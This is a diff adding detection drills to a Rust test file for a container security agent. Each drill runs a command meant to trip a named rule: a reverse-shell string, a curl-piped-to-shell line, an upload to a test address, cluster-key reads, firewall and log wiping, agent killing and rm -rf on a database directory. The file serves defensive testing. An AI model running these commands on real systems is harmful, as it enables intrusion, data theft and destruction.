@@ -1,6 +1,7 @@
 //! The built-in rules: each fires on what it is about.
 //!
-//! Left out: "Kernel Module Loaded in Container", which only a real module would raise.
+//! Left out: a module in the kernel, privileged containers, file handles, and what would change
+//! the host or its images. `rules/tests` shows these by hand-written events.
 
 use crate::container::Container;
 use crate::daemon::default_pack;
@@ -72,6 +73,105 @@ drills! { default_pack;
 drills! { default_pack;
     /// There is no network: the attempt is what counts.
     listed_address: "Listed Address Contacted", [], ["/usr/local/bin/drills", "connect", "198.51.100.66", "443"];
+}
+
+// Deployment.
+drills! { default_pack;
+    powerful_container: "Powerful Container Started", ["--cap-add", "SYS_PTRACE"], ["true"];
+    host_numbers: "Container Started in Host Namespace", ["--pid", "host"], ["true"];
+    host_directory: "Host Directory Mounted in Container", ["-v", "/etc:/host/etc:ro"], ["true"];
+    image_build: "Image Built or Changed on Host", [], ["/usr/local/bin/buildah", "bud", "."];
+    cluster_client: "Container Client Used in Container", [], ["/usr/local/bin/kubectl", "get", "pods"];
+    cluster_change: "Cluster Changed From Container", [], ["/usr/local/bin/kubectl", "create", "cronjob", "x"];
+    cluster_role: "Cluster Role Granted by Client", [],
+        ["/usr/local/bin/kubectl", "create", "clusterrolebinding", "x"];
+    static_pod: "Static Pod Manifest Written", [],
+        ["sh", "-c", "mkdir /etc/kubernetes/manifests; echo x >/etc/kubernetes/manifests/x.yaml"];
+    control_port: "Control Port of Node Contacted by Tool", [],
+        ["/usr/local/bin/curl", "connect", "10.255.0.7", "2375"];
+}
+
+// Tampering. What is stopped and changed is in the container, and has the name only.
+drills! { default_pack;
+    agent_killed: "Security Agent Killed", [], ["timeout", "-s", "KILL", "1", "/usr/local/bin/falco", "wait"];
+    agent_told_to_end: "Security Agent Told to End", [], ["killall", "falco"];
+    service_stopped: "Security Service Stopped", [], ["/usr/local/bin/systemctl", "stop", "auditd"];
+    agent_file: "Security Agent File Changed", [], ["sh", "-c", "mkdir /etc/tidewatch; echo x >/etc/tidewatch/x.yaml"];
+    firewall: "Firewall Switched Off", [], ["/usr/local/bin/iptables", "-F"];
+    access_control: "Access Control Switched Off", [], ["/usr/local/bin/setenforce", "0"];
+    log_cleared: "System Log Cleared", [], ["/usr/local/bin/journalctl", "--vacuum-time=1s"];
+    no_history: "Shell History Switched Off", [], ["env", "HISTFILE=/dev/null", "sh", "-c", "true"];
+}
+
+// Identity.
+drills! { default_pack;
+    root_taken: "Root Taken in Container", [], ["/usr/local/bin/perl", "become-root"];
+    known_exploit: "Known Local Exploit Tried", [],
+        ["/usr/local/bin/drills", "call-itself", "", "/usr/local/bin/pkexec"];
+    account_switched: "Account Switched Below Server", [],
+        ["/usr/local/bin/nginx", "spawn", "/usr/local/bin/sudo", "-l"];
+    cluster_keys: "Cluster Keys Read", [], ["cat", "/etc/kubernetes/pki/ca.key"];
+    api_server: "API Server Asked by Tool", [],
+        ["env", "KUBERNETES_SERVICE_HOST=10.96.0.1", "/usr/local/bin/curl", "connect", "10.96.0.1", "443"];
+    metadata: "Cloud Metadata Asked by Tool", [], ["/usr/local/bin/curl", "connect", "169.254.169.254", "80"];
+    secrets_searched: "Secrets Searched For", [], ["find", "/home", "-name", "id_rsa"];
+    process_memory: "Process Memory Opened in Container", [], ["head", "-c", "0", "/proc/1/mem"];
+    password_guessing: "Password Guessing Tool Started", [], ["/usr/local/bin/hydra", "-l", "root"];
+    account_created: "Account Created in Container", [], ["/usr/local/bin/useradd", "eve"];
+    login_configuration: "Login Configuration Changed in Container", [], ["sh", "-c", "echo x >>/etc/pam.d/sshd"];
+}
+
+// The kernel's doors, and what lasts.
+drills! { default_pack;
+    runtime_program: "Runtime Program Opened for Writing", [], ["sh", "-c", ": >>/proc/1/exe"];
+    directory_by_descriptor: "Working Directory Taken From Descriptor", [],
+        ["/usr/local/bin/drills", "enter-descriptor", "/opt"];
+    /// Opened for appending and closed again: the setting stays as it is.
+    kernel_setting: "Kernel Setting Changed in Container", ["--security-opt", "systempaths=unconfined"],
+        ["sh", "-c", ": >>/proc/sys/vm/swappiness"];
+    fault_handler: "Fault Handler Installed in Container", ["--security-opt", "seccomp=unconfined"],
+        ["/usr/local/bin/drills", "fault-handler"];
+    ring: "io_uring Used by New Program", ["--security-opt", "seccomp=unconfined"],
+        ["sh", "-c", "cp /usr/local/bin/drills /opt/x; /opt/x ring"];
+    profile: "Shell Profile Changed in Container", [], ["sh", "-c", "echo x >>/root/.bashrc"];
+    upload: "Script Written to Upload Folder", [], ["/usr/local/bin/php", "create", "/www/uploads/a.php"];
+    capability: "File Capability Set in Container", [], ["/usr/local/bin/setcap", "cap_setuid+ep", "/bin/busybox"];
+    setuid_shell: "Shell Keeps Setuid Rights", [], ["sh", "-p", "/dev/null"];
+    library: "Library Put in System Place", [], ["cp", "/lib/libc.so.6", "/lib/libx.so"];
+}
+
+// What hides.
+drills! { default_pack;
+    kernel_thread: "Kernel Thread Name Borrowed", [],
+        ["/usr/local/bin/drills", "call-itself", "[kworker/0:0]", "/usr/local/bin/drills"];
+    service_name: "System Service Name in Wrong Place", [],
+        ["sh", "-c", "cp /usr/local/bin/drills /root/sshd; /root/sshd"];
+    hidden_place: "Program Run From Hidden Place", [],
+        ["sh", "-c", "mkdir /etc/.x; cp /usr/local/bin/drills /etc/.x/a; /etc/.x/a"];
+    unseen_name: "Program Name Cannot Be Seen", [], ["sh", "-c", "cp /usr/local/bin/drills '/opt/a '; '/opt/a '"];
+    own_file: "Program Removed Its Own File", [], ["sh", "-c", "cp /usr/local/bin/drills /opt/x; /opt/x remove /opt/x"];
+    reverse_shell_command: "Reverse Shell in Command Line", [],
+        ["sh", "-c", "true 'bash -i >& /dev/tcp/192.0.2.1/9 0>&1'"];
+    network_script: "Network Script Piped Into Shell", [], ["sh", "-c", "true 'curl http://192.0.2.1/x | sh'"];
+    look_around: "Look Around Below Server", [], ["/usr/local/bin/nginx", "spawn", "/usr/local/bin/lscpu"];
+}
+
+// Tools. Nothing is scanned, sent or destroyed: the programs have the names only.
+drills! { default_pack;
+    scanner: "Network Scanner Started", [], ["/usr/local/bin/nmap", "10.255.0.0/16"];
+    attack_tool: "Attack Tool Started", [], ["/usr/local/bin/pspy64"];
+    tunnel: "Tunnel Program Started", [], ["/usr/local/bin/chisel", "client", "192.0.2.1:443"];
+    network_tool: "Network Tool Started in Container", [], ["/usr/local/bin/tcpdump", "-i", "eth0"];
+    packet_socket: "Packet Socket Opened in Container", [], ["/usr/local/bin/sniff", "packet"];
+    back_door: "Port Opened by New Program", [], ["sh", "-c", "cp /usr/local/bin/drills /opt/x; /opt/x listen 4444"];
+    login_server: "Remote Login Server Started in Container", [], ["/usr/local/bin/dropbear", "-p", "2222"];
+    other_machine: "Login From Container to Other Machine", [], ["/usr/local/bin/ssh", "root@192.0.2.1"];
+    data_sent: "Data Sent Out by Tool", [], ["/usr/local/bin/curl", "-T", "/etc/hostname", "http://192.0.2.1/"];
+    bandwidth: "Bandwidth Sold by Program", [], ["/usr/local/bin/traffmonetizer", "start"];
+    denial: "Denial of Service Tool Started", [], ["/usr/local/bin/slowhttptest", "-u", "http://192.0.2.1/"];
+    destruction: "Data Destroyed", [], ["rm", "-rf", "/var/lib/mysql"];
+    ransom_note: "Ransom Note or Locked File Written", [], ["sh", "-c", "echo x >/opt/README_TO_DECRYPT.txt"];
+    backup: "Backup or Snapshot Deleted", [], ["/usr/local/bin/velero", "backup", "delete", "x"];
 }
 
 #[test]
